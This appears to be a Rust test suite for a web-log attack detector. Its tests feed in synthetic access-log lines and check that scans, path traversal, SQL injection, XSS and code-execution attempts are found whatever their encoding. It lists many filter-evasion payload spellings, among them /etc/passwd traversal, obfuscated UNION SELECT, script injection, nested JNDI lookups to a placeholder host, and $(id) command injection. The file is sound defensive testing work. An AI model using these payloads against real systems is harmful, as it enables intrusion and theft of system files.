//! Whole requests through front and engine: few findings, whatever the noise; nothing evades by its spelling.

use crate::cases::{Runner, run};
use vocab::{Category, EvidenceRole, Kind, Level};

fn line(at: u32, source: &str, request: &str, status: u16, bytes: u32) -> String {
    let (hour, minute, second) = (3 + at / 3600, at / 60 % 60, at % 60);
    format!(
        "{source} - - [10/Nov/2026:{hour:02}:{minute:02}:{second:02} +0900] \"{request} HTTP/1.1\" {status} {bytes} \
         \"-\" \"Mozilla/5.0\""
    )
}

#[test]
fn five_thousand_requests_of_a_scanner_are_few_findings() {
    let shapes = [
        "/item?id={}'+union+select+null,null--",
        "/show?f=../../../../etc/passwd&n={}",
        "/?q=<script>alert({})</script>",
        "/x?c=;cat+/etc/hosts;{}",
        "/.env?{}",
        "/HNAP1/?{}",
        "/no-such-page-{}",
    ];
    let lines: Vec<String> = (0..5_000_u32)
        .map(|at| {
            let shape = shapes.iter().cycle().nth(at as usize % shapes.len()).copied().unwrap_or_default();
            line(at / 8, "203.0.113.50", &format!("GET {}", shape.replace("{}", &at.to_string())), 404, 196)
        })
        .collect();
    let (_, findings) = run(&mut Runner::new(), "combined", &lines.join("\n"));
    assert!((6..=8).contains(&findings.len()), "{}", findings.len());
    let scan = findings.iter().find(|finding| finding.kind == Kind::VulnerabilityScan).expect("scan");
    assert_eq!((scan.level, scan.category), (Level::Medium, Category::Attempt));
    assert!(scan.attempts > 4_900 && scan.evidence.len() <= 250);
    assert!(findings.iter().all(|finding| finding.source_count == 1 && !finding.effect));
}

#[test]
fn a_scan_is_seen_within_twenty_requests() {
    let lines: Vec<String> =
        (0..20).map(|at| line(at, "203.0.113.50", &format!("GET /missing-{at}/"), 404, 196)).collect();
    let (_, findings) = run(&mut Runner::new(), "combined", &lines.join("\n"));
    assert!(findings.iter().any(|finding| finding.kind == Kind::VulnerabilityScan));
}

#[test]
fn the_record_that_had_an_effect_is_named() {
    let mut lines: Vec<String> =
        (0..6).map(|at| line(at, "192.0.2.9", "GET /download.php?file=a.pdf", 200, 38_000)).collect();
    lines.push(line(60, "203.0.113.50", "GET /download.php?file=../../../etc/passwd", 404, 900));
    lines.push(line(61, "203.0.113.50", "GET /download.php?file=../../../../etc/passwd", 200, 1_042));
    let (_, findings) = run(&mut Runner::new(), "combined", &lines.join("\n"));
    let [finding] = findings.as_slice() else { panic!("one finding expected, not {}", findings.len()) };
    assert_eq!((finding.kind, finding.level), (Kind::PathTraversal, Level::High));
    assert_eq!((finding.effect, finding.category), (true, Category::SecurityHole));
    let effects: Vec<u32> = finding
        .evidence
        .iter()
        .filter(|record| record.role == EvidenceRole::Effect)
        .map(|record| record.citation.record)
        .collect();
    assert_eq!(effects, [8]);
}

#[test]
fn sources_are_kept_apart_and_ipv6_goes_by_prefix() {
    let request = "GET /?q=<script>alert(1)</script>";
    let lines = [
        line(0, "203.0.113.50", request, 404, 1),
        line(1, "203.0.113.51", request, 404, 1),
        line(2, "2001:db8::1", request, 404, 1),
        line(3, "2001:db8::2", request, 404, 1),
    ];
    let (_, findings) = run(&mut Runner::new(), "combined", &lines.join("\n"));
    let sources: Vec<u64> = findings.iter().map(|finding| finding.source_count).collect();
    assert_eq!(sources, [1, 1, 2]);
}

/// Spellings of payloads (DT-FMT-43).
const SPELLINGS: [(Kind, &[&str]); 4] = [
    (
        Kind::PathTraversal,
        &[
            "/d?f=..%2f..%2f..%2fetc/passwd",
            "/d?f=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
            "/d?f=%25252e%25252e%25252f%25252e%25252e%25252fetc/passwd",
            "/d?f=..%c0%af..%c0%afetc/passwd",
            "/d?f=..%e0%80%af..%e0%80%afetc%e0%80%afpasswd",
            "/d?f=..%u2215..%u2215etc%u2215passwd",
            "/d?f=..%u002f..%u002fetc%u002fpasswd",
            "/d?f=..%5c..%5c..%5cetc%5cpasswd",
            "/d?f=%2E%2E/%2E%2E/ETC/PASSWD",
            "/d?f=./../.././../etc/./passwd",
            "/d?f=....//....//etc/passwd",
            "/d?f=/etc//passwd",
            "/d?f=／etc／passwd",
        ],
    ),
    (
        Kind::SqlInjection,
        &[
            "/i?id=1+UnIoN+SeLeCt+NuLl,2--",
            "/i?id=1/**/union/**/select/**/null,2--",
            "/i?id=1/*!50000union*/+/*!select*/+null,2--",
            "/i?id=1%09union%0aselect%0dnull,2--",
            "/i?id=1+%2575nion+%2573elect+null,2--",
            "/i?id=1%u0020union%u0020select%u0020null,2--",
            "/i?id=1+union+all+select(null),2--",
            "/i?id=1+union++++distinct++++select+null,2--",
            "/i?id=1%C2%A0union%C2%A0select%C2%A0null,2--",
            "/i?id=1+ｕｎｉｏｎ+ｓｅｌｅｃｔ+null,2--",
        ],
    ),
    (
        Kind::CrossSiteScripting,
        &[
            "/s?q=<ScRiPt>alert(1)</sCrIpT>",
            "/s?q=%253Cscript%253Ealert(1)",
            "/s?q=&lt;script&gt;alert(1)&lt;/script&gt;",
            "/s?q=%26%2360;script%26%2362;alert(1)",
            "/s?q=%uff1cscript%uff1ealert(1)",
            "/s?q=<svg%0Aonload%09=alert(1)>",
            "/s?q=<script/x>alert(1)",
        ],
    ),
    (
        Kind::CodeExecution,
        &[
            "/a?x=${jndi:ldap://h/a}",
            "/a?x=$%7Bjndi:ldap://h/a%7D",
            "/a?x=${${lower:j}ndi:ldap://h/a}",
            "/a?x=${${::-j}${::-n}${::-d}${::-i}:rmi://h/a}",
            "/a?x=${${env:X:-j}ndi${env:X:-:}ldap://h/a}",
            "/a?x=%24%257Bjndi:dns://h/a%257D",
            "/a?x=;cat${IFS}/etc/hosts",
            "/a?x=%60id%60",
            "/a?x=$(id)",
            "/a?x=%0aid%0a",
        ],
    ),
];

/// DT-FMT-43: every spelling of a payload is the payload.
#[test]
fn no_spelling_evades() {
    let mut runner = Runner::new();
    let mut evaded = Vec::new();
    for (kind, spellings) in SPELLINGS {
        for spelling in spellings {
            let (names, findings) =
                run(&mut runner, "combined", &line(0, "203.0.113.50", &format!("GET {spelling}"), 404, 1));
            if !findings.iter().any(|finding| finding.kind == kind) {
                evaded.push(format!("{kind:?} {spelling} {names:?}"));
            }
        }
    }
    assert!(evaded.is_empty(), "{}", evaded.join("\n"));
}
